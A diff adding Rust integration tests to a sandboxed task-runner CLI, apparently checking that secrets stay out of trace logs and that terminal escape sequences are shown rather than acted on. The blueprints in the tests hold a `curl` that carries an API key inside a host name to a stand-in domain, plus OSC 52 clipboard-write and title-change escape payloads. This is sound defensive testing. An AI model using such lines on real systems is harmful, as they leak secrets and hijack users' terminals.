@@ -204,3 +204,149 @@ async fn ctrl_c_cancels_the_run_removes_the_sandbox_and_exits_130() {
         .unwrap();
     assert!(left.is_empty(), "the sandbox was removed: {left:?}");
 }
+
+#[tokio::test]
+async fn logs_at_trace_show_no_secret_from_maxions_or_the_crates_it_uses() {
+    if engine("cli-logs").await.is_none() {
+        return;
+    }
+    // Lowercase letters and digits: it also becomes a host name, which the proxy lowercases.
+    const SECRET: &str = "logsecret7q9z4k2m";
+    let dir = tree(&[
+        (
+            "maxions.yaml",
+            "secrets:\n  API_KEY: { env: CLI_LOG_SECRET }\n  GIT_TOKEN: { env: CLI_LOG_GIT_TOKEN }\n",
+        ),
+        (
+            "blueprints/b.yaml",
+            // The exec's environment holds the secret (bollard logs request bodies at trace), and
+            // the refused host name carries it into maxions' own log of the egress decision.
+            "name: b\nsandbox:\n  network: allowlist\n  allow: [allowed.invalid]\nsteps:\n  - id: leak\n    secrets: [API_KEY]\n    run: |\n      echo \"key=$API_KEY\"\n      curl -s -m 10 \"https://$API_KEY.denied.invalid/\" || true\n",
+        ),
+        (
+            "tasks/t.yaml",
+            "task: x\nrepo: acme/widgets\nblueprint: b\n",
+        ),
+    ]);
+    for log in ["trace", "trace,bollard=trace,hyper=trace,[exec]=trace"] {
+        let out = Maxions::new()
+            .current_dir(dir.path())
+            .env("CLI_LOG_SECRET", SECRET)
+            .env("CLI_LOG_GIT_TOKEN", "unused-git-token-cli-logs")
+            .env("MAXIONS_LOG", log)
+            .args(["run", "-vvv", "tasks/t.yaml"])
+            .run();
+        assert_eq!(out.code, 0, "{}", out.stderr);
+        assert!(
+            !out.stderr.contains(SECRET) && !out.stdout.contains(SECRET),
+            "MAXIONS_LOG={log}: the secret is in the output:\n{}",
+            out.stderr
+        );
+        // maxions' own log did carry it, masked: the redacting writer was in the way.
+        assert!(
+            out.stderr
+                .lines()
+                .any(|l| l.contains("maxions::") && l.contains("***.denied.invalid")),
+            "MAXIONS_LOG={log}: no masked egress event in:\n{}",
+            out.stderr
+        );
+        if log != "trace" {
+            assert!(
+                out.stderr.contains("only maxions' own logs can be raised"),
+                "{}",
+                out.stderr
+            );
+        }
+    }
+}
+
+#[tokio::test]
+async fn escape_sequences_from_a_run_are_shown_not_obeyed_by_the_terminal() {
+    if engine("cli-escapes").await.is_none() {
+        return;
+    }
+    let dir = tree(&[
+        (
+            "blueprints/b.yaml",
+            // An OSC 52 clipboard write and a `\r` overwrite in output; a title change in the
+            // failure's reason.
+            "name: b\nsteps:\n  - id: out\n    run: printf 'a\\033]52;c;cHduZWQ=\\007b\\rX\\n'\n  - id: bad\n    run: |\n      printf '\\033]0;owned\\007 fatal\\n' >&2\n      exit 3\n",
+        ),
+        (
+            "tasks/t.yaml",
+            "task: x\nrepo: acme/widgets\nblueprint: b\n",
+        ),
+    ]);
+    let out = Maxions::new()
+        .current_dir(dir.path())
+        // As on a colour terminal: nothing is stripped on the way out.
+        .args(["run", "-v", "--color", "always", "tasks/t.yaml"])
+        .run();
+    assert_eq!(out.code, 1, "{}", out.stderr);
+    assert!(
+        !out.stderr.contains("\x1b]") && !out.stderr.contains('\x07') && !out.stderr.contains('\r'),
+        "a raw control character reached the terminal: {:?}",
+        out.stderr
+    );
+    assert!(
+        out.stderr.contains("| a^[]52;c;cHduZWQ=^Gb^MX"),
+        "{}",
+        out.stderr
+    );
+    let reason = out
+        .stderr
+        .lines()
+        .find(|l| l.starts_with("reason:"))
+        .unwrap_or_default();
+    assert!(reason.contains("^[]0;owned^G fatal"), "{}", out.stderr);
+}
+
+#[test]
+fn with_an_engine_that_does_not_answer_at_docker_host_the_demo_says_what_to_do() {
+    let dir = tempfile::tempdir().unwrap();
+    let out = Maxions::new()
+        .env("DOCKER_HOST", "tcp://127.0.0.1:1")
+        .args(["demo", "--dir"])
+        .arg_path(dir.path().join("demo"))
+        .run();
+    assert_eq!(out.code, 2, "{}", out.stderr);
+    // Nothing is installed or started for an engine someone else runs.
+    assert!(
+        out.stderr.contains(
+            "DOCKER_HOST=tcp://127.0.0.1:1 is set, so maxions does not start a local engine"
+        ),
+        "{}",
+        out.stderr
+    );
+    assert!(!out.stderr.contains("starting one"), "{}", out.stderr);
+}
+
+#[tokio::test]
+async fn images_maxions_does_not_build_are_left_to_the_engine_and_present_ones_are_kept() {
+    let Some(engine) = engine("cli-images").await else {
+        return;
+    };
+    let said = std::sync::Arc::new(std::sync::Mutex::new(Vec::<String>::new()));
+    let log = said.clone();
+    let progress = maxions::sandbox::bootstrap::Progress::new(move |line| {
+        log.lock().unwrap().push(line.to_owned());
+    });
+    let started = Instant::now();
+    maxions::sandbox::bootstrap::ensure_images(
+        &engine,
+        &[
+            maxions::sandbox::image::SANDBOX_IMAGE,
+            "maxions-test/not-built-by-maxions:none",
+        ],
+        &progress,
+    )
+    .await
+    .unwrap();
+    // Present: nothing built, nothing said; unknown: no attempt (the run's own error says it).
+    assert!(
+        said.lock().unwrap().is_empty(),
+        "{:?}",
+        said.lock().unwrap()
+    );
+    assert!(started.elapsed() < Duration::from_secs(10));
+}
